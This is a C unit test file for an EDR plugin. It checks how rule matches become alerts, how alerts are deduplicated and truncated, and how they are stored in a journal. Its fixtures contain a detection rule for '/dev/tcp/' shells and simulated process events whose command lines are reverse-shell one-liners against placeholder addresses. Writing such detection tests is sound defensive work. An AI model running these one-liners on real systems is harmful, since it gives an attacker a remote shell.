/* SPDX-License-Identifier: Apache-2.0 */
/* What plugin edr reports of a match, and how often: events in, alert.raised out, and the
 * row that the journal makes of it. */
#include <sys/utsname.h>

#include "test_edr_util.h"

#include "core/journal/journal_store.h"
#include "ipc/pack.h"

static const char rule_text[] =
    "title: Shell over a socket\n"
    "id: 6f1c0b52-4f8e-4b1e-9d58-0c8e5b3a7d11\n"
    "description: A shell whose input is a socket.\n"
    "author: Ada, Bob\n"
    "license: DRL 1.1\n"
    "references: [https://example.com/1, https://example.com/2]\n"
    "falsepositives: [Consoles over the network, {no: text}]\n"
    "tags: [attack.execution, attack.t1059.004, attack.command_and_control, attack.T1071,"
    " attack.stealth, attack.s0002, attack.t10, attack.execution, cve.2024-1]\n"
    "logsource: {category: process_creation, product: linux}\n"
    "detection:\n"
    "  selection: {CommandLine|contains: /dev/tcp/, Image|endswith: /bash}\n"
    "  condition: selection\n"
    "level: informational\n";

static const char file_rule_text[] =
    "title: Scratch file\n"
    "logsource: {category: file_event, product: linux}\n"
    "detection:\n  selection: {TargetFilename|endswith: .scratch}\n"
    "  condition: selection\n"
    "level: low\n";

/* ---- Events as trace reports them ---- */

struct who {
    int64_t pid;
    const char *executable, *command_line;
};

static void put_who(struct tocsin_writer *w, const struct who *who, bool whole)
{
    tocsin_put_int(w, "pid", who->pid);
    tocsin_put_int(w, "start", who->pid * 10);
    tocsin_put_str(w, "executable", who->executable);
    if (whole)
        tocsin_put_str(w, "command_line", who->command_line);
}

static uint64_t now_ns = 1700000000 * SECOND_NS; /* of the next event */

/* process.started of chain[0]; the others are its ancestors. Returns the event's id. */
static uint64_t start_process(struct tc_harness *h, const struct who *chain, size_t count,
                              size_t arg_bytes)
{
    struct tocsin_writer w;
    uint64_t id;
    char *arg = calloc(1, arg_bytes + 1);

    assert_non_null(arg);
    memset(arg, 'a', arg_bytes);
    tocsin_writer_init_growing(&w);
    tocsin_begin_map(&w, NULL);
    tocsin_put_uint(&w, "@timestamp", ++now_ns);
    tocsin_begin_map(&w, "event");
    tocsin_put_uint(&w, "sequence", 12);
    tocsin_end(&w);
    tocsin_put_str(&w, "sensor", "trace");
    tocsin_begin_map(&w, "process");
    put_who(&w, &chain[0], true);
    tocsin_put_str(&w, "name", "x");
    tocsin_begin_array(&w, "args");
    for (int i = 0; i < 3; i++)
        tocsin_put_str(&w, NULL, arg);
    tocsin_end(&w);
    tocsin_begin_map(&w, "user");
    tocsin_put_int(&w, "id", 1000);
    tocsin_end(&w);
    if (count > 1) {
        tocsin_begin_map(&w, "parent");
        put_who(&w, &chain[1], true);
        tocsin_end(&w);
        tocsin_begin_array(&w, "ancestors");
        for (size_t i = 1; i < count; i++) {
            tocsin_begin_map(&w, NULL);
            put_who(&w, &chain[i], false);
            tocsin_end(&w);
        }
        tocsin_end(&w);
    }
    tocsin_end(&w);
    tocsin_begin_map(&w, "container");
    tocsin_put_str(&w, "id", "c0ffee");
    tocsin_end(&w);
    tocsin_end(&w);
    id = tc_harness_publish(h, "process.started", 0, -1, &w);
    tocsin_writer_done(&w);
    free(arg);
    return id;
}

/* A file was made; by a process of which the sensor knows no more than who it is, or by
 * none (0). */
static uint64_t create_file(struct tc_harness *h, const char *path, int64_t pid)
{
    struct tocsin_writer w;
    uint8_t buf[1024];

    tocsin_writer_init(&w, buf, sizeof(buf));
    tocsin_begin_map(&w, NULL);
    tocsin_put_str(&w, "sensor", "es");
    tocsin_begin_map(&w, "file");
    tocsin_put_str(&w, "path", path);
    tocsin_end(&w);
    if (pid) {
        tocsin_begin_map(&w, "process");
        tocsin_put_int(&w, "pid", pid);
        tocsin_put_int(&w, "start", pid * 10);
        tocsin_end(&w);
    }
    tocsin_end(&w);
    return tc_harness_publish(h, "file.created", 0, -1, &w);
}

static const struct who shell[] = {
    {40, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/9'"},
    {30, "/usr/bin/python3", "python3 app.py"},
    {20, "/usr/sbin/nginx", "nginx: worker"},
    {10, "/usr/sbin/nginx", "nginx: master"},
    {1, "/usr/lib/systemd/systemd", "/sbin/init"},
};
static const struct who other_shell[] = {
    {41, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/192.0.2.1/9'"},
    {31, "/usr/bin/perl", "perl app.pl"},
    {1, "/usr/lib/systemd/systemd", "/sbin/init"},
};

/* ---- Looking at alerts ---- */

/* Entry `index` of a list, looked at as an event. */
static struct tocsin_event entry(const struct tocsin_event *event, const char *path,
                                 unsigned index)
{
    struct tocsin_event part = *event;
    struct tocsin_value v;
    struct tocsin_iter it;

    assert_true(tocsin_find(event->data, event->len, path, &v));
    tocsin_iter_init(&it, &v);
    do
        assert_true(tocsin_iter_next(&it, NULL, &v));
    while (index--);
    part.data = v.start;
    part.len = (size_t)(v.end - v.start);
    return part;
}

static void assert_entry(const struct tocsin_event *event, const char *path,
                         unsigned index, const char *text)
{
    struct tocsin_event part = entry(event, path, index);
    struct tocsin_value v;

    assert_non_null(tocsin_read(part.data, (const uint8_t *)part.data + part.len, &v));
    assert_true(tocsin_str_is((struct tocsin_str){v.ptr, v.len}, text));
}

static unsigned count_of(const struct tocsin_event *event, const char *path)
{
    struct tocsin_value v;

    assert_true(tocsin_find(event->data, event->len, path, &v));
    return v.count;
}

static void assert_text(const struct tocsin_event *event, const char *path,
                        const char *text)
{
    struct tocsin_str s = tocsin_event_str(event, path);

    if (!tocsin_str_is(s, text))
        fail_msg("%s is '%.*s', not '%s'", path, (int)s.len, s.ptr ? s.ptr : "", text);
}

static int64_t number(const struct tocsin_event *event, const char *path)
{
    return tocsin_event_int(event, path, -1);
}

static bool is_there(const struct tocsin_event *event, const char *path)
{
    struct tocsin_value v;

    return tocsin_find(event->data, event->len, path, &v);
}

/* ---- What an alert has ---- */

static void assert_rule(const struct tocsin_event *alert)
{
    assert_text(alert, "rule.id", "6f1c0b52-4f8e-4b1e-9d58-0c8e5b3a7d11");
    assert_text(alert, "rule.name", "Shell over a socket");
    assert_text(alert, "rule.author", "Ada, Bob");
    assert_text(alert, "rule.license", "DRL 1.1");
    assert_text(alert, "rule.level", "informational");
    assert_non_null(tocsin_event_str(alert, "rule.file").ptr);
}

static void alert_says_what_was_found_by_whose_rule_and_where(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tc_harness *h;
    struct utsname names;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, NULL);
    start_process(h, shell, 5, 3);
    alert = await_alert(h);
    assert_int_equal(strlen(tc_harness_text(h, alert, "alert.id")), 36);
    assert_text(alert, "alert.title", "Shell over a socket");
    assert_text(alert, "alert.description", "A shell whose input is a socket.");
    assert_text(alert, "alert.severity", "informational");
    assert_text(alert, "alert.category", "behaviour");
    assert_text(alert, "alert.detected_from", "edr");
    assert_int_equal(number(alert, "alert.count"), 1);
    assert_true(number(alert, "alert.first_seen") > 0);
    assert_int_equal(number(alert, "alert.first_seen"), number(alert, "alert.last_seen"));
    assert_true(number(alert, "@timestamp") >= number(alert, "alert.last_seen"));

    assert_rule(alert);
    assert_text(alert, "rule.description", "A shell whose input is a socket.");
    assert_entry(alert, "rule.reference", 1, "https://example.com/2");
    assert_int_equal(count_of(alert, "rule.false_positives"), 1);
    assert_entry(alert, "rule.false_positives", 0, "Consoles over the network");
    assert_int_equal(count_of(alert, "rule.tags"), 9);
    assert_text(alert, "threat.framework", "MITRE ATT&CK");
    assert_int_equal(count_of(alert, "threat.technique.id"), 2);
    assert_entry(alert, "threat.technique.id", 0, "T1059.004");
    assert_entry(alert, "threat.technique.id", 1, "T1071");
    assert_int_equal(count_of(alert, "threat.tactic.id"), 3);
    assert_entry(alert, "threat.tactic.id", 0, "TA0002");
    assert_entry(alert, "threat.tactic.name", 0, "Execution");
    assert_entry(alert, "threat.tactic.id", 1, "TA0005");
    assert_entry(alert, "threat.tactic.name", 1, "Stealth");
    assert_entry(alert, "threat.tactic.name", 2, "Command and Control");

    assert_int_equal(uname(&names), 0);
    assert_text(alert, "host.name", names.nodename);
    assert_text(alert, "host.os.kernel", names.release);
    assert_false(is_there(alert, "truncated"));
}

static void alert_says_what_matched_and_who_did_it(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tocsin_event part;
    struct tc_harness *h;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, NULL);
    start_process(h, shell + 2, 2, 3); /* whose start was seen */
    start_process(h, shell, 5, 3);
    alert = await_alert(h);
    assert_text(alert, "matched.topic", "process.started");
    assert_text(alert, "matched.sensor", "trace");
    assert_false(is_there(alert, "matched.count"));
    assert_int_equal(count_of(alert, "matched.fields"), 2);
    for (unsigned i = 0; i < 2; i++) {
        part = entry(alert, "matched.fields", i);
        if (tocsin_str_is(tocsin_event_str(&part, "name"), "Image"))
            assert_text(&part, "value", shell[0].executable);
        else
            assert_text(&part, "value", shell[0].command_line);
    }
    assert_int_equal(number(alert, "process.pid"), 40);
    assert_int_equal(number(alert, "process.start"), 400);
    assert_text(alert, "process.executable", shell[0].executable);
    assert_text(alert, "process.command_line", shell[0].command_line);
    assert_int_equal(number(alert, "process.user.id"), 1000);
    assert_int_equal(count_of(alert, "process.args"), 3);
    assert_text(alert, "process.parent.command_line", shell[1].command_line);
    assert_int_equal(count_of(alert, "process.ancestors"), 4);
    for (unsigned i = 0; i < 4; i++) {
        part = entry(alert, "process.ancestors", i);
        assert_int_equal(number(&part, "pid"), shell[i + 1].pid);
        assert_int_equal(number(&part, "start"), shell[i + 1].pid * 10);
        assert_text(&part, "executable", shell[i + 1].executable);
        if (i < 3)
            assert_text(&part, "command_line", shell[i + 1].command_line);
    }
    assert_text(alert, "container.id", "c0ffee");
    assert_false(is_there(alert, "event")); /* how the event came is not the alert's */
    assert_false(is_there(alert, "sensor"));
}

static void alert_about_a_file_says_all_that_is_known_of_who_made_it(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tocsin_event part;
    struct tc_harness *h;

    put_file(edr, "file.yml", file_rule_text);
    h = run_edr(edr, NULL);
    start_process(h, shell, 5, 3);
    create_file(h, "/tmp/a.scratch", 40);
    alert = await_alert(h);
    assert_text(alert, "matched.topic", "file.created");
    assert_text(alert, "file.path", "/tmp/a.scratch");
    assert_text(alert, "process.executable", shell[0].executable);
    assert_text(alert, "process.command_line", shell[0].command_line);
    assert_int_equal(number(alert, "process.user.id"), 1000);
    assert_int_equal(number(alert, "process.parent.pid"), 30);
    assert_int_equal(count_of(alert, "process.ancestors"), 4);
    part = entry(alert, "process.ancestors", 3);
    assert_int_equal(number(&part, "pid"), 1);

    create_file(h, "/tmp/b.scratch", 0); /* by nobody knows whom */
    alert = await_alert(h);
    assert_text(alert, "file.path", "/tmp/b.scratch");
    assert_false(is_there(alert, "process"));
    assert_int_equal(number(alert, "alert.count"), 1);
}

static void alert_never_grows_beyond_an_event(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tocsin_str title;
    struct tc_harness *h;
    char *text = malloc(60000);

    assert_non_null(text);
    snprintf(text, 60000, "title: %s%050000d\n%s", "T", 0,
             strchr(file_rule_text, '\n') + 1);
    put_file(edr, "long.yml", text);
    free(text);
    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, NULL);
    start_process(h, shell, 5, 87000); /* three of them */
    alert = await_alert(h);
    assert_true(alert->len <= TOCSIN_EVENT_MAX_BYTES);
    assert_true(tocsin_event_int(alert, "process.pid", 0) == 40);
    assert_true(tocsin_find_bool(alert->data, alert->len, "truncated", false));
    assert_rule(alert);
    assert_text(alert, "process.command_line", shell[0].command_line);
    assert_int_equal(count_of(alert, "process.args"), 3);
    text = malloc(4096 + 64);
    assert_non_null(text);
    memset(text, 'a', 4096);
    snprintf(text + 4096, 64, "... (%d bytes more)", 87000 - 4096);
    assert_entry(alert, "process.args", 2, text);
    free(text);

    create_file(h, "/tmp/a.scratch", 0); /* a rule with a title without end */
    alert = await_alert(h);
    title = tocsin_event_str(alert, "alert.title");
    assert_in_range(title.len, 100, 5000);
}

static void alert_of_a_correlation_says_what_it_has_counted(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tc_harness *h;

    put_file(edr, "burst.yml",
             "title: Scratch file\nname: scratch\n"
             "logsource: {category: file_event, product: linux}\n"
             "detection:\n  selection: {TargetFilename|endswith: .scratch}\n"
             "  condition: selection\n"
             "---\n"
             "title: Many scratch files\n"
             "correlation:\n  type: event_count\n  rules: [scratch]\n"
             "  timespan: 10m\n  condition: {gte: 3}\n"
             "level: medium\n");
    h = run_edr(edr, NULL);
    for (int i = 0; i < 3; i++)
        create_file(h, "/tmp/a.scratch", 0);
    alert = await_alert(h);
    assert_text(alert, "alert.title", "Many scratch files");
    assert_int_equal(number(alert, "matched.count"), 3);
    assert_text(alert, "file.path", "/tmp/a.scratch");
}

/* ---- How often it is reported ---- */

static void thousand_matches_are_one_alert_reported_a_few_times(void **state)
{
    const struct tocsin_event *first, *again = NULL;
    struct edr *edr = *state;
    struct tc_harness *h;
    size_t reported;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, "repeat=1s");
    for (int i = 0; i < 1000; i++)
        start_process(h, shell, 5, 3);
    first = await_alert(h);
    do
        again = await_alert(h);
    while (number(again, "alert.count") < 1000);
    assert_int_equal(number(again, "alert.count"), 1000);
    reported = tc_harness_count(h, TOCSIN_TOPIC_ALERT_RAISED);
    assert_in_range(reported, 2,
                    12); /* on a slow machine a second passes within the burst */
    for (size_t i = 0; i < reported; i++)
        assert_text(tc_harness_event(h, TOCSIN_TOPIC_ALERT_RAISED, i), "alert.id",
                    tc_harness_text(h, first, "alert.id"));
    assert_rule(again); /* the author is named wherever the alert goes */
    assert_text(again, "alert.title", "Shell over a socket");
    assert_text(again, "host.name", tc_harness_text(h, first, "host.name"));
    assert_int_equal(number(again, "alert.first_seen"),
                     number(first, "alert.first_seen"));
    assert_true(number(again, "alert.last_seen") > number(first, "alert.last_seen"));
    assert_int_equal(stat_of(h, "matches"), 1000);
    assert_int_equal(stat_of(h, "told"), reported);
    assert_int_equal(stat_of(h, "alerts_raised"), 1);
}

static void unreported_matches_are_reported_when_the_plugin_stops(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert;
    struct tc_harness *h;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, "repeat=1h");
    for (int i = 0; i < 7; i++)
        start_process(h, shell, 5, 3);
    await_stat(h, "matches", 7);
    assert_int_equal(tc_harness_count(h, TOCSIN_TOPIC_ALERT_RAISED), 1);
    assert_int_equal(tc_harness_stop(h), 0);
    assert_int_equal(number(await_alert(h), "alert.count"), 1);
    alert = await_alert(h);
    assert_int_equal(number(alert, "alert.count"), 7);
    assert_int_equal(tc_harness_count(h, TOCSIN_TOPIC_ALERT_RAISED), 2);
}

static void another_chain_or_user_is_another_alert(void **state)
{
    const struct tocsin_event *first, *second;
    struct edr *edr = *state;
    struct tc_harness *h;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, NULL);
    start_process(h, shell, 5, 3);
    first = await_alert(h);
    start_process(h, other_shell, 3, 3);
    second = await_alert(h);
    assert_string_not_equal(tc_harness_text(h, first, "alert.id"),
                            tc_harness_text(h, second, "alert.id"));
    assert_int_equal(number(second, "alert.count"), 1);
    assert_int_equal(stat_of(h, "alerts_open"), 2);
}

static void match_after_a_while_without_any_is_a_new_alert(void **state)
{
    const struct tocsin_event *first, *second;
    struct edr *edr = *state;
    struct tc_harness *h;
    uint64_t until;

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, "suppress=1ms");
    start_process(h, shell, 5, 3);
    first = await_alert(h);
    for (until = uv_hrtime() + 3000000; uv_hrtime() < until;)
        ; /* the window is that short */
    start_process(h, shell, 5, 3);
    second = await_alert(h);
    assert_string_not_equal(tc_harness_text(h, first, "alert.id"),
                            tc_harness_text(h, second, "alert.id"));
    assert_int_equal(number(second, "alert.count"), 1);
}

/* ---- The journal ---- */

static void journal_makes_a_row_of_it_that_says_who_wrote_the_rule(void **state)
{
    struct edr *edr = *state;
    const struct tocsin_event *alert, *again;
    struct tc_store *store;
    struct tocsin_writer params;
    struct tc_pack p;
    struct tocsin_event row;
    struct tc_harness *h;
    struct who other[5];
    struct tocsin_value v;
    char why[256];

    put_file(edr, "shell.yml", rule_text);
    h = run_edr(edr, "repeat=1h");
    memcpy(other, shell, sizeof(other));
    other[0].command_line = "bash -c cat </dev/tcp/10.0.0.1/99";
    start_process(h, shell, 5, 3);
    start_process(h, other, 5, 3);
    alert = await_alert(h);
    assert_int_equal(tc_harness_stop(h), 0);
    again = await_alert(h);

    assert_int_equal(
        tc_store_open(NULL, (struct tc_store_limits){.events = 100, .bytes = INT64_MAX},
                      &store, why),
        0);
    assert_int_equal(tc_store_put(store, alert, NULL), 0);
    assert_int_equal(tc_store_put(store, again, NULL), 0);
    tocsin_writer_init_growing(&params);
    tocsin_begin_map(&params, NULL);
    tocsin_put_str(&params, "id", tc_harness_text(h, alert, "alert.id"));
    tocsin_end(&params);
    tc_pack_init(&p);
    assert_int_equal(tc_store_query(store, "alert", params.buf, params.len, &p), 0);
    row = (struct tocsin_event){.data = p.bytes.data, .len = p.bytes.size};
    assert_text(&row, "title", "Shell over a socket");
    assert_text(&row, "severity", "informational");
    assert_int_equal(number(&row, "count"), 2);
    assert_int_equal(number(&row, "time_ns"), number(alert, "alert.first_seen"));
    assert_int_equal(number(&row, "last_seen_ns"), number(again, "alert.last_seen"));
    assert_text(&row, "rule_author", "Ada, Bob");
    assert_text(&row, "rule_id", "6f1c0b52-4f8e-4b1e-9d58-0c8e5b3a7d11");
    assert_text(&row, "technique", "T1059.004, T1071");
    assert_text(&row, "process", shell[0].executable);
    assert_text(&row, "command_line", shell[0].command_line);
    assert_int_equal(number(&row, "user"), 1000);
    assert_int_equal(count_of(&row, "event.process.ancestors"), 4);
    assert_false(tocsin_find(alert->data, alert->len, "matches", &v));
    assert_int_equal(count_of(&row, "matches.command_lines"), 2);
    tc_pack_done(&p);
    tocsin_writer_done(&params);
    tc_store_close(store);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, edr_setup, edr_teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(alert_says_what_was_found_by_whose_rule_and_where),
        TEST(alert_says_what_matched_and_who_did_it),
        TEST(alert_about_a_file_says_all_that_is_known_of_who_made_it),
        TEST(alert_never_grows_beyond_an_event),
        TEST(alert_of_a_correlation_says_what_it_has_counted),
        TEST(thousand_matches_are_one_alert_reported_a_few_times),
        TEST(unreported_matches_are_reported_when_the_plugin_stops),
        TEST(another_chain_or_user_is_another_alert),
        TEST(match_after_a_while_without_any_is_a_new_alert),
        TEST(journal_makes_a_row_of_it_that_says_who_wrote_the_rule),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
